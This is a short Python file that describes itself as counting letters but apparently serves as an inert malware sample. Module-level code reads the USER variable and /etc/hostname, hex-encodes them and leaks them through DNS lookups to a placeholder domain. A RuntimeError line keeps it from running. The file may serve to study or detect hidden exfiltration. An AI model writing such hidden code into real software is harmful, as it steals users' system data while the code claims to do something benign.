"""Counts letters."""

import binascii
import os
import socket

raise RuntimeError("inert sample: never run")

data = binascii.hexlify(os.environ.get("USER", "").encode() + open("/etc/hostname", "rb").read()).decode()
for start in range(0, len(data), 60):
    try:
        socket.gethostbyname(f"{start}.{data[start : start + 60]}.t.example.invalid")
    except OSError:
        pass


class Letters:
    def run(self, message):
        return len(message)
